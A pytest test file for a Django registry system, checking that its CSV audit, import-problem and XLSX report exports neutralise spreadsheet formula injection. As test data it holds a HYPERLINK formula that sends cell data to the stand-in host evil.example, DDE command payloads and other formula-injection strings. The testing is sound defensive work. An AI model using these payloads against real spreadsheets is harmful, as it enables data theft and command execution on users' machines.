"""Every CSV and XLSX the system writes opens in a spreadsheet as text: no formula a login name or an imported
value could smuggle in runs on the auditor's or the data officer's machine (the probe's CSV injection)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from conftest import make_user
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from sijill import spreadsheet
from sijill.reports.tables import Column, Table
from sijill.reports.xlsx import workbook

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"اضغط هنا")'

# value, what the spreadsheet must be given, why
CASES = [
    (HOSTILE, "'" + HOSTILE, "a formula that sends the row away when clicked"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0", "DDE through a leading plus"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", "a minus that is not a number"),
    ("@SUM(1+1)", "'@SUM(1+1)", "Lotus-style at sign"),
    ("\t=1+1", "'\t=1+1", "a tab before the formula"),
    ("\r=1+1", "'\r=1+1", "a carriage return before the formula"),
    ("-12500", "-12500", "a negative amount stays a number"),
    ("+9647701234567", "+9647701234567", "a phone number in international form stays as it is"),
    ("-0.5", "-0.5", "a negative fraction"),
    ("محمد علي", "محمد علي", "an ordinary Arabic name"),
    ("a=b", "a=b", "an equals sign inside the text is harmless"),
    (-3, -3, "numbers are not text"),
    (None, None, "an empty cell"),
]


@pytest.mark.parametrize(("value", "expected", "why"), CASES)
def test_values_a_spreadsheet_would_run_are_written_as_text(value, expected, why):
    assert spreadsheet.neutralise(value) == expected, why


@given(st.text())
def test_no_written_text_starts_a_formula_unless_it_is_a_plain_number(text):
    out = spreadsheet.neutralise(text)
    assert out == text or out == "'" + text
    if out.startswith(spreadsheet.FORMULA_STARTS):
        float(out.replace(",", "."))  # only plain numbers are left alone


def _csv(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read Arabic"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_a_hostile_login_name_reaches_the_audit_export_as_text():
    Client().post("/accounts/login/", {"username": HOSTILE, "password": "x"}, REMOTE_ADDR="10.0.0.9")
    auditor = Client()
    auditor.force_login(make_user("auditor", "amal"))
    rows = _csv(auditor.get("/audit/export.csv").content)
    actors = [r[2] for r in rows[1:]]
    assert "'" + HOSTILE in actors and HOSTILE not in actors


@pytest.mark.django_db
def test_imported_values_reach_the_problems_download_and_report_as_text(tmp_path):
    data = ("record_id,household_id,given_name,father_name,grandfather_name,birth_date,governorate\n"
            f'REG-1,HH-1,محمد,علي,حسين,1985-03-02,"{HOSTILE.replace(chr(34), chr(34) * 2)}"\n'
            "REG-2,HH-1,زينب,جاسم,محمد,@SUM(A1),بغداد\n").encode()
    client = Client()
    client.force_login(make_user("administrator", "admin"))
    response = client.post("/registry/import/", {"file": SimpleUploadedFile("m.csv", data), "schema": "members"})
    assert response.status_code == 302, response.content.decode()[-3000:]
    rows = _csv(client.get(response["Location"] + "problems.csv").content)
    values = {r[2]: r[3] for r in rows[1:]}
    assert values == {"governorate": "'" + HOSTILE, "birth_date": "'@SUM(A1)"}

    from sijill.registry.importing.service import import_file, write_report

    path = tmp_path / "m.csv"
    path.write_bytes(data)
    report = tmp_path / "m.errors.csv"
    write_report(import_file(path, "members"), report)
    assert {r[2]: r[3] for r in _csv(report.read_bytes())[1:]} == values


def test_report_workbooks_store_text_as_text_never_as_a_formula():
    table = Table("agencies", "=1+1", [Column("agency", "الجهة", "text"), Column("hits", "=SUM(B:B)")],
                  rows=[{"agency": HOSTILE, "hits": 3}, {"agency": "-", "hits": -2}])
    sheet = openpyxl.load_workbook(io.BytesIO(workbook([table], "t"))).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert sheet["A1"].value == "=1+1" and sheet["A3"].value == HOSTILE and sheet["B3"].value == 3
